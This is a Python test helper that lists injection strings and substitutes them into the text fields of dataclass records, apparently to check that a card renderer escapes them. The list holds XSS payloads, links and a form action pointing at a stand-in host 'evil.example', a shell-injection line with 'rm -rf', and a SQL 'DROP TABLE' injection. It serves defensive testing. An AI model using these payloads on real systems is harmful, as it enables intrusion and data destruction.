"""Texts that would be obeyed if they reached a card as they are, and records that hold them anywhere."""

from __future__ import annotations

import re
from collections.abc import Callable, Collection, Iterator
from dataclasses import fields, is_dataclass, replace
from itertools import cycle, islice
from typing import Any, Final

EVIL: Final = "evil.example"
TEXTS: Final = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<b>bold</b>",
    "<!-- comment",
    "<!-- a --><p>b",
    "<?php echo 1 ?>",
    "<!DOCTYPE html>",
    "<![CDATA[x]]>",
    "</details></main></body></html>",
    "<details open ontoggle=alert(1)>",
    "<summary>x</summary>",
    "</td></tr></table>",
    "</code></pre><h1>x</h1>",
    "<style>*{display:none}</style>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<form action=https://evil.example><input></form>",
    "<https://evil.example>",
    "<me@evil.example>",
    "<x:y>",
    "a<br>b",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&amp;&nbsp;&copy;",
    "[x](https://evil.example)",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "![x](https://evil.example/x.png)",
    "[![x](https://evil.example/x.png)](https://evil.example)",
    "[x][1]\n\n[1]: https://evil.example",
    "[1]: https://evil.example",
    "[^1]",
    "*a* **b** ***c***",
    "_a_ __b__",
    "~~a~~ ~b~",
    "`a` ``b`` ```c",
    "```\n<b>\n```",
    "~~~\n<b>\n~~~",
    "    <b>indented",
    "\t<b>tabbed",
    "# heading",
    "a\n# heading\nb",
    "a\n===",
    "a\n---",
    "---",
    "***",
    "- item\n- item",
    "+ item",
    "* item",
    "1. item",
    "1) item",
    "> quoted",
    "| a | b |\n|---|---|\n| c | d |",
    "a | b \\| c",
    "a\\",
    "\\<b\\>",
    "$$x$$ \\(y\\)",
    "{{ 7 * 7 }} {% raw %}",
    "${x} $(id) `id`; rm -rf x",
    "'; DROP TABLE x; --",
    "\" onmouseover=alert(1) x=\"",
    "' onmouseover=alert(1) x='",
    "a\r\n<b>\r\nc",
    "a\x00<b>",
    "a\x1b[31m<b>",
    "a\u2028<b>\u2029c",
    "\u202e<b>txt.exe",
    "\u200b# x",
    "\ufeff# x",
    "---\nlicense: mit\n---",
    "x\n---\nlicense: mit",
    "%00%3Cscript%3E",
    "*" * 60,
    "[" * 60,
    "<" * 60,
    "> " * 30 + "x",
    "🙂" + "e\u0301" * 20,
)  # fmt: skip


def places(value: Any) -> Iterator[tuple[str, str]]:
    """(class, field) of every text in a record; of a field with a fixed set of values none."""
    if is_dataclass(value):
        for field in fields(value):
            held = getattr(value, field.name)
            if re.search(r"\bstr\b", str(field.type)) and any(isinstance(leaf, str) for leaf in leaves(held)):
                yield type(value).__name__, field.name
            yield from places(held)
    elif isinstance(value, tuple):
        for item in value:
            yield from places(item)


def leaves(value: Any) -> Iterator[Any]:
    """What is in a value beside tuples."""
    if isinstance(value, tuple):
        for item in value:
            yield from leaves(item)
    else:
        yield value


def edited(value: Any, change: Callable[[Any, str, Any], Any]) -> Any:
    """A record with each field as ``change(object, name, value)`` gives it, from the inside out."""
    if isinstance(value, tuple):
        return tuple(edited(item, change) for item in value)
    if not is_dataclass(value) or isinstance(value, type):
        return value
    inside = {f.name: change(value, f.name, edited(getattr(value, f.name), change)) for f in fields(value)}
    return replace(value, **inside)


def with_texts(record: Any, chosen: Collection[tuple[str, str]], texts: tuple[str, ...], first: int = 0) -> Any:
    """The record with the texts in those places, by turns from the ``first``; equal texts stay equal."""
    turns, known = islice(cycle(texts), first, None), dict[str, str]()

    def put(held: Any) -> Any:
        if isinstance(held, tuple):
            return tuple(put(item) for item in held)
        if isinstance(held, str) and held not in known:
            known[held] = next(turns)
        return known[held] if isinstance(held, str) else held

    def change(owner: Any, name: str, held: Any) -> Any:
        return put(held) if (type(owner).__name__, name) in chosen else held

    return edited(record, change)
